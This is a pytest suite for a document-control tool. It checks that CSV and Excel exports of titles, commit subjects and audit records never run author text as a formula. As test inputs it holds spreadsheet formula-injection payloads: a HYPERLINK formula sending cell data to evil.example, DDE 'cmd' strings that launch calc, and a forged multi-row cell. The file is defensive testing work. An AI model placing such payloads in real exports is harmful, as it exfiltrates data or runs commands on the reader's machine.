"""Tables an auditor opens in a spreadsheet: what an author wrote is never run as a formula,
and every CSV and workbook the tool writes goes through one module."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from doccontrol import spreadsheets
from history_helpers import body, cli

# what an author with push access could put in a title, a commit subject or a record
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_csv_cell_a_spreadsheet_would_run_is_text(value):
    text = spreadsheets.csv_text(["h"], [[value]])
    assert _csv_rows(text)[1] == ["'" + value.replace("\r", "\n")]


def test_a_line_break_in_a_cell_never_starts_a_row():
    forged = "修订\rSM-P-99,V9.9,已批准\r\nSM-P-98,V9.9,已批准\nend"
    text = spreadsheets.csv_text(["a", "b"], [[forged, "x"]])
    # Excel ends a row at a bare CR as well as at LF: split the way it would, outside quotes
    rows = list(csv.reader(io.StringIO(text.replace("\r", "\n"), newline="")))
    assert rows == [["a", "b"], ["修订\nSM-P-99,V9.9,已批准\nSM-P-98,V9.9,已批准\nend", "x"]]


def test_other_csv_cells_are_unchanged():
    rows = [["SM-P-01", "V1.0", "2026-03-10", "测试程序 = 示例", "—", 3, -1, None]]
    parsed = _csv_rows(spreadsheets.csv_text(list("abcdefgh"), rows))
    assert parsed[1] == ["SM-P-01", "V1.0", "2026-03-10", "测试程序 = 示例", "—", "3", "-1", ""]


def test_every_csv_cell_is_quoted_so_no_separator_splits_it():
    """LibreOffice splits on ; and tabs as well as commas (Excel on ; in many locales): an
    unquoted ; in a commit subject made columns of its own, and a formula after it."""
    forged = "修订目的;SM-P-01 V1.2;王芳;刘静;已批准;=cmd|' /C calc'!A0"
    text = spreadsheets.csv_text(["变更说明", "结论"], [[forged, "未批准"], [7, None]])
    assert (
        text.splitlines()[1]
        == '"修订目的;SM-P-01 V1.2;王芳;刘静;已批准;=cmd|\' /C calc\'!A0","未批准"'
    )
    for separator in (",", ";", "\t"):
        rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))
        assert rows[1][0].startswith("修订目的") and len(rows[1]) <= 2, separator


@pytest.mark.parametrize("hidden", ["\x00", "\x1b", "\x7f", "\ud800", "\ufffe", "\uffff"])
def test_what_no_spreadsheet_shows_is_a_replacement_character(hidden):
    """A NUL before '=' passed the apostrophe and LibreOffice dropped it and ran the formula;
    U+FFFE, U+FFFF and lone surrogates (a file name that is not UTF-8) made the workbook's
    XML invalid, and LibreOffice stopped reading at them."""
    value = hidden + "=1+1"
    assert _csv_rows(spreadsheets.csv_text(["h"], [[value]]))[1] == ["\ufffd=1+1"]
    assert spreadsheets.csv_file(["h"], [[value]]).decode("utf-8")  # encodes, whatever it held
    assert _cells(spreadsheets.workbook(["h"], [[value], ["后"]], "s"))[1:] == [
        [("\ufffd=1+1", "s")],
        [("后", "s")],
    ]


def test_a_csv_file_has_the_byte_order_mark_excel_needs():
    data = spreadsheets.csv_file(["文件编号"], [["SM-P-01"]])
    assert data.startswith('\ufeff"文件编号"\n'.encode())


def _cells(data: bytes) -> list[list[tuple[object, str]]]:
    sheet = load_workbook(io.BytesIO(data)).active
    return [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows()]


def test_a_workbook_keeps_every_text_as_text_exactly():
    values = [*HOSTILE[:4], "#N/A", "=1"]
    data = spreadsheets.workbook(["=标题", "数"], [[v, 7] for v in values], "清单")
    rows = _cells(data)
    assert rows[0] == [("=标题", "s"), ("数", "s")]
    assert rows[1:] == [[(v, "s"), (7, "n")] for v in values]
    # nothing in the file is a formula
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml


def test_a_workbook_holds_what_excel_refuses_in_a_form_it_accepts():
    long = "长" * (spreadsheets.MAX_CELL + 10)
    rows = _cells(spreadsheets.workbook(["h"], [["a\x07b\x00c"], [long]], "s"))
    assert rows[1][0][0] == "a\ufffdb\ufffdc"
    cut = rows[2][0][0]
    assert isinstance(cut, str) and len(cut) == spreadsheets.MAX_CELL and cut.endswith("…")


def test_the_same_table_gives_the_same_workbook_bytes():
    first = spreadsheets.workbook(["h"], [["x"]], "s")
    assert spreadsheets.workbook(["h"], [["x"]], "s") == first


# --- what the commands write ------------------------------------------------------------

TITLE = HOSTILE[0]
SUBJECT = "=cmd|' /C calc'!A0 修订"


def _hostile_history(scenario):
    """SM-P-01 retitled with a formula, approved by a merge whose title is another."""
    scenario.git.branch("cr-1")
    scenario.files.doc(
        title="'" + TITLE.replace("'", "''") + "'",
        version="V1.1",
        body=body("修订后的目的。"),
        effective_date="2026-03-10",
    )
    scenario.git.commit(SUBJECT, who="zhaolei")
    scenario.git.checkout("main")
    scenario.git.merge("cr-1", SUBJECT, date="2026-03-10T10:00:00+08:00")


def _pack(scenario, folder, env=None):
    """The audit pack of the first half of 2026, made by the CLI."""
    pack = folder / "pack.zip"
    half_year = ("--from", "2026-01-01", "--to", "2026-06-30")
    made = cli(scenario.root, "audit-pack", *half_year, "-o", str(pack), env=env)
    assert made.returncode == 0, made.stderr
    return pack


def _csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))


def test_commands_never_write_an_authors_text_as_a_formula(scenario, tmp_path):
    _hostile_history(scenario)
    env = {"LC_ALL": "en_US.UTF-8"}
    register_csv = cli(scenario.root, "register", "--format", "csv", env=env)
    assert register_csv.returncode == 0, register_csv.stderr
    assert [c for r in _csv_rows(register_csv.stdout) for c in r if TITLE in c] == ["'" + TITLE]

    written = tmp_path / "register.csv"
    assert cli(scenario.root, "register", "--format", "csv", "-o", str(written)).returncode == 0
    assert written.read_bytes().startswith("\ufeff".encode())  # what Excel needs for Chinese
    assert _csv_rows(written.read_text("utf-8")) == _csv_rows(
        cli(scenario.root, "register", "--format", "csv").stdout
    )

    trail_csv = cli(scenario.root, "trail", "--format", "csv", env=env)
    cells = [c for r in _csv_rows(trail_csv.stdout) for c in r if "calc" in c]
    assert cells and all(c.startswith("'=") for c in cells)

    xlsx = tmp_path / "register.xlsx"
    made = cli(scenario.root, "register", "--format", "xlsx", "-o", str(xlsx), env=env)
    assert made.returncode == 0, made.stderr
    assert (TITLE, "s") in [cell for row in _cells(xlsx.read_bytes()) for cell in row]

    pack = _pack(scenario, tmp_path)
    with zipfile.ZipFile(pack) as z:
        assert (TITLE, "s") in [
            cell for row in _cells(z.read("register/register.xlsx")) for cell in row
        ]
        assert b"<f>" not in zipfile.ZipFile(io.BytesIO(z.read("register/register.xlsx"))).read(
            "xl/worksheets/sheet1.xml"
        )
        for name in z.namelist():
            if not name.endswith(".csv"):
                continue
            text = z.read(name).decode("utf-8")
            assert text.startswith("\ufeff"), name
            for row in _csv_rows(text):
                for cell in row:
                    assert not cell.startswith(spreadsheets.FORMULA_STARTS), (name, cell)
        register = _csv_rows(z.read("register/register.csv").decode("utf-8"))
        assert [c for r in register for c in r if TITLE in c] == ["'" + TITLE]
        revisions = _csv_rows(z.read("history/revisions.csv").decode("utf-8"))
        assert any("'" + SUBJECT in c for r in revisions for c in r)


def test_the_packs_signature_list_speaks_the_readers_language(scenario, tmp_path):
    _hostile_history(scenario)
    pack = _pack(scenario, tmp_path, {"LC_ALL": "zh_CN.UTF-8"})
    with zipfile.ZipFile(pack) as z:
        rows = _csv_rows(z.read("history/signatures.csv").decode("utf-8"))
    assert rows[0] == ["提交", "日期", "签名状态", "密钥", "签名者", "密钥属于"]
    assert [r[2:] for r in rows[1:]] == [["未签名", "", "", ""]]
